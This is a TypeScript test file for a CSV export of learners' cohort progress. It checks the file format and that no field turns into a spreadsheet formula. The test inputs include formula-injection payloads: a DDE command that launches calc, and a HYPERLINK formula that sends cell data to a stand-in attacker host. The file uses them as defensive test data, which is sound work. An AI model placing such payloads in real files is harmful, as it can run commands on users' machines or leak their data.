import { describe, expect, test } from "vitest";
import { cohortCsv } from "../../../src/render/cohort/csv.ts";
import { item, learner, standings } from "./learner.ts";
import { asOf, cohortOf, recordOf } from "./sample-cohort.ts";
import { standingsOf } from "../../../src/render/cohort/standing.ts";

/** The records of a CSV (RFC 4180), told by a reader that knows nothing of how it was written. @param separator of fields */
function read(csv: string, separator = ","): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  const end = (): void => {
    row.push(field);
    field = "";
  };
  for (let at = 0; at < csv.length; at++) {
    const sign = csv[at] ?? "";
    if (sign === '"' && quoted && csv[at + 1] === '"') field += csv[at++];
    else if (sign === '"') quoted = !quoted;
    else if (quoted) field += sign;
    else if (sign === separator) end();
    else if (sign === "\n") {
      end();
      rows.push(row);
      row = [];
    } else if (sign !== "\r") field += sign;
  }
  return rows;
}

test("a line for each learner, in the order of cohort.json, with a column for each phase", () => {
  const csv = cohortCsv(
    standings([
      learner("bo", [
        item("a", "2026-11-28"),
        item("b", "declared"),
        item("c", "open", { title: '`JOIN`, "GROUP BY"' }),
      ]),
      learner("ana", [item("a", "2026-11-01"), item("b", "open", { phase: "two" })]),
      { ...recordOf("cy", null), problem: { code: "gone", message: "Not found", hint: "Ask Cy." } },
    ]),
    asOf,
  );
  expect(csv.startsWith("\ufeff")).toBe(true);
  expect(csv.endsWith("\r\n")).toBe(true);
  const [head = [], ...rows] = read(csv.slice(1));
  expect(new Set(rows.map(({ length }) => length))).toEqual(new Set([head.length]));
  const told = rows.map((row) => Object.fromEntries(head.map((name, index) => [name, row[index] ?? ""])));
  expect(told).toMatchObject([
    {
      name: "bo",
      proven: "1",
      "self-declared": "1",
      items: "3",
      "proven this week": "1",
      "last proof": "2026-11-28",
      "days without proof": "2",
      stuck: "no",
      "next item": 'JOIN, "GROUP BY"',
      problem: "",
      "phase 1": "Phase one",
      "phase 1 done": "2",
      "phase 1 items": "3",
      "phase 2": "",
    },
    {
      name: "ana",
      repository: "ana/learning",
      stuck: "yes",
      "days without proof": "29",
      "phase 2": "Phase two",
      "phase 2 done": "0",
    },
    { name: "cy", read: "", items: "", stuck: "", problem: "gone: Not found", "what to do": "Ask Cy." },
  ]);
});

describe("no text becomes a formula", () => {
  const danger = /^[\s"]*[=+\-@＝＋－＠]/;
  const texts = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "＝1+1",
    " =1+1",
    "\t=1+1",
    "\r\n=1+1",
    '"=1+1',
    "x;=1+1",
    'x";=1+1',
    "x,=1+1",
    "x\n=1+1",
    'x","=1+1',
    "x| =cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "\u200b=1+1",
    "'=1+1",
  ];

  test.each(texts)("%j", (text) => {
    const record = learner("ana", [item("a", "open", { title: text })]);
    const progress = record.progress && {
      ...record.progress,
      name: text,
      url: text,
      phases: record.progress.phases.map((phase) => ({ ...phase, title: text, due: text })),
    };
    const problem = { code: text, message: text, hint: text };
    const hostile = { ...record, login: text, repository: text, readAt: text, progress, problem };
    for (const names of ["full", "initials"] as const) {
      const csv = cohortCsv(standingsOf(cohortOf([hostile], { names }), asOf), asOf).slice(1);
      // In some countries a spreadsheet cuts at semicolons; tabs and bars can be chosen.
      for (const separator of [",", ";", "\t", "|"]) {
        const fields = read(csv, separator).flat();
        expect(fields.filter((field) => danger.test(field))).toEqual([]);
      }
      expect(read(csv).length).toBe(2);
      expect(csv.split("\r\n").length).toBe(3);
    }
  });

  test("a text without danger stays as it is", () => {
    const csv = cohortCsv(
      standings([learner("ana", [item("a", "open", { title: "C++ and e-mail @ home, a = b" })])]),
      asOf,
    );
    expect(csv).toContain('"C++ and e-mail @ home, a = b"');
  });
});

test("nobody is only the head", () => {
  expect(read(cohortCsv([], asOf).slice(1)).length).toBe(1);
});
